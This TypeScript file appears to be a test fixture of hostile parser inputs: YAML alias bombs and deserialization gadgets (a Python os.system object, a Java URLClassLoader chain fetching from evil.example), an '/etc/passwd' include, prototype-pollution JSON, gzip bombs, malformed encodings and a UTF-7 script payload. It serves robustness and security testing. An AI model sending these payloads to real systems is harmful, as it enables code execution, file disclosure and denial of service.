// What a file or a body can hold that takes more to read than to send, or that a reader could take for code.
import { deflateSync, gzipSync } from 'node:zlib';

const MB = 2 ** 20;

/** Nested so deep that a reader which calls itself ends. */
const deep = (open: string, close: string, count: number): string => open.repeat(count) + close.repeat(count);

/** Levels of aliases, of which each has the one before it ten times. */
function laughs(levels: number): string {
  const lines = ['a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]'];
  for (let at = 1; at < levels; at++)
    lines.push(
      `a${at}: &a${at} [${Array(10)
        .fill(`*a${at - 1}`)
        .join(', ')}]`,
    );
  return lines.join('\n');
}

/** name → YAML that is no manifest, or wants to be more */
export const HOSTILE_YAML: Readonly<Record<string, string>> = {
  'a billion laughs': laughs(9),
  'a billion laughs in a manifest': `apiVersion: v1\nkind: Pod\nmetadata:\n  name: x\n${laughs(9)}\nspec: *a8`,
  'an alias of itself': 'a: &a\n  b: *a',
  'an alias of itself in a list': '&a [*a, *a]',
  'merge keys of merge keys': `x: &x {a: 1}\n${Array.from({ length: 500 }, (_, at) => `k${at}: &k${at} {<<: [*x${at > 0 ? `, *k${at - 1}` : ''}]}`).join('\n')}`,
  'a merge of a prototype': '<<: {__proto__: {zqx: 1}}\n__proto__: {zqx: 2}',
  'many anchors': Array.from({ length: 20_000 }, (_, at) => `k${at}: &n${at} v`).join('\n'),
  'many aliases of one anchor': `a: &a [1, 2, 3]\nb: [${'*a, '.repeat(20_000)}*a]`,
  'an anchor that is not there': 'a: *nobody',
  'deep flow lists': deep('[', ']', 20_000),
  'deep flow maps': `${'{a: '.repeat(20_000)}1${'}'.repeat(20_000)}`,
  'deep blocks': Array.from({ length: 1_000 }, (_, at) => `${' '.repeat(at)}a:`).join('\n'),
  'deep lists of lists': `${'- '.repeat(20_000)}a`,
  'a function': "a: !!js/function 'function () { process.exit(1) }'",
  'a regular expression': 'a: !!js/regexp /(a+)+$/',
  'an undefined': 'a: !!js/undefined ""',
  'an object of Python': '!!python/object/apply:os.system ["touch /tmp/zqx"]',
  'an object of Ruby': '--- !ruby/object:Gem::Installer\ni: x',
  'an object of Java':
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]',
  'an included file': 'a: !include /etc/passwd',
  'a tag of its own': '!<tag:evil.example,2026:x> {a: 1}',
  'a tag directive': '%TAG ! tag:evil.example,2026:\n---\n!x a',
  'a binary': `a: !!binary ${'A'.repeat(40_000)}`,
  'a set and a map with order': 'a: !!set {x, y}\nb: !!omap [x: 1]\nc: !!pairs [x: 1, x: 2]',
  'keys that are objects': '? {a: 1}\n: b\n? [1, 2]\n: c',
  'keys that come twice': 'kind: Pod\nkind: Service\nmetadata: {name: a}\nmetadata: {name: b}',
  'ten thousand documents': '---\na: 1\n'.repeat(10_000),
  'tabs for indentation': 'a:\n\tb: 1',
  'numbers of all kinds':
    'a: 1e400\nb: -.inf\nc: .nan\nd: 0o777\ne: 0xffffffffffffffffffff\nf: 1_000\ng: 190:20:30\nh: 1e-999999999',
  'a time that is none': 'a: 2026-99-99T99:99:99Z\nb: 0000-00-00',
  'a long key': `${'k'.repeat(2_000)}: v`,
  'a long plain text over lines': `a: ${'word\n '.repeat(30_000)}`,
  'a text of quotes': `a: "${'\\"'.repeat(50_000)}"`,
  'an escape that is none': 'a: "\\uD800\\x00\\UFFFFFFFF"',
  'a nul': 'a: b\u0000c',
  'a byte order mark': '\ufeffkind: Pod\nmetadata: {name: x}',
};

/** name → JSON that is no object of Kubernetes, or wants to be more */
export const HOSTILE_JSON: Readonly<Record<string, string>> = {
  'deep lists': deep('[', ']', 100_000),
  'deep objects': `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
  'deep lists of a pod': `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"x"},"spec":${deep('[', ']', 50_000)}}`,
  'a prototype': '{"__proto__":{"zqx":1},"kind":"Pod","metadata":{"name":"x","labels":{"__proto__":"zqx"}}}',
  'a constructor': '{"constructor":{"prototype":{"zqx":1}},"kind":"Pod","metadata":{"name":"x"}}',
  'prototypes all over':
    '{"kind":"Pod","metadata":{"__proto__":{"name":"zqx"},"name":"__proto__","namespace":"constructor","annotations":{"constructor":"x"}},"status":{"containerStatuses":[{"name":"__proto__","state":{"__proto__":{}}}]}}',
  'keys that come twice': '{"kind":"Pod","kind":"Service","metadata":{"name":"a"},"metadata":{"name":"b"}}',
  'a number without end': `{"kind":"Pod","metadata":{"generation":${'9'.repeat(10_000)}}}`,
  'numbers that are none': '{"a":1e400,"b":-1e400,"c":1e-400,"d":-0}',
  'a replica set of everything':
    '{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"x","namespace":"y"},"spec":{"replicas":1e308},"status":{"replicas":-1e308,"readyReplicas":0.5,"unavailableReplicas":"NaN"}}',
  'wrong types':
    '{"apiVersion":1,"kind":["Pod"],"metadata":[{"name":{}}],"spec":"x","status":{"conditions":{"a":1},"containerStatuses":"x"}}',
  'nothing but nulls': '{"apiVersion":null,"kind":"Pod","metadata":null,"spec":null,"status":null}',
  'a list of nulls': '{"apiVersion":"v1","kind":"List","items":[null,null,1,"x",[],{}]}',
  'a list in lists': `${'{"kind":"List","items":['.repeat(2_000)}${']}'.repeat(2_000)}`,
  'a million empty objects': `{"kind":"List","items":[${'{},'.repeat(200_000)}{}]}`,
  'halves of characters': '{"kind":"Pod","metadata":{"name":"\\ud800","namespace":"\\udfff\\u0000"}}',
  'a text that does not end': `{"kind":"Pod","metadata":{"name":"${'x'.repeat(100_000)}`,
  backslashes: `{"kind":"Pod","metadata":{"name":"${'\\\\'.repeat(50_000)}"}}`,
  'a byte order mark': '\ufeff{"kind":"Pod","metadata":{"name":"x"}}',
};

/** name → bytes of a file that is no text, or not the text that it seems to be */
export const HOSTILE_BYTES: Readonly<Record<string, () => Uint8Array>> = {
  'gzip of a gigabyte of zeros': () => gzipSync(Buffer.alloc(64 * MB)),
  'gzip within gzip': () => gzipSync(gzipSync(Buffer.alloc(16 * MB))),
  'deflated text': () => deflateSync(Buffer.from('Failed to pull image\n'.repeat(100_000))),
  'a zip': () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.alloc(3_000, 7)]),
  'an executable': () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(5_000)]),
  'a picture': () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), Buffer.alloc(2_000, 1)]),
  'a PDF': () => Buffer.from(`%PDF-1.7\n${'\u0000\u0001\u0002\u0003'.repeat(500)}`),
  'nothing but zeros': () => Buffer.alloc(100_000),
  'overlong UTF-8': () => Buffer.from([0x61, 0xc0, 0xaf, 0xe0, 0x80, 0xaf, 0xf0, 0x80, 0x80, 0xaf, 0xc0, 0x80, 0x0a]),
  'surrogates in UTF-8': () => Buffer.from([0x61, 0xed, 0xa0, 0x80, 0xed, 0xb0, 0x80, 0x0a]),
  'beyond the last character': () => Buffer.from([0x61, 0xf4, 0x90, 0x80, 0x80, 0xfe, 0xff, 0x0a]),
  'a sequence that is cut off': () => Buffer.from([...Buffer.from('Failed '), 0xe3, 0x81]),
  'UTF-16 with a mark': () => Buffer.from('\ufeff@everyone <!channel>\n', 'utf16le'),
  'UTF-16 the other way': () => Buffer.from('\ufeff@everyone <!channel>\n', 'utf16le').swap16(),
  'UTF-16 of an odd length': () => Buffer.from([...Buffer.from('\ufeffzqx\n', 'utf16le'), 0x61]),
  'UTF-16 halves': () => Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x61, 0x00, 0x00, 0xdc, 0x0a, 0x00]),
  'UTF-32': () => Buffer.from([0xff, 0xfe, 0, 0, 0x7a, 0, 0, 0, 0x71, 0, 0, 0]),
  'UTF-7': () => Buffer.from('+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n'),
  'a byte order mark and nothing': () => Buffer.from([0xef, 0xbb, 0xbf]),
  'Latin-1': () => Buffer.from([0x46, 0xe9, 0x65, 0x9b, 0x32, 0x4a, 0x0a]),
  'controls of one byte': () => Buffer.from([0x9b, 0x32, 0x4a, 0x9d, 0x30, 0x3b, 0x78, 0x9c, 0x0a]),
  'every byte there is': () => Buffer.from(Array.from({ length: 256 }, (_, at) => at)),
};
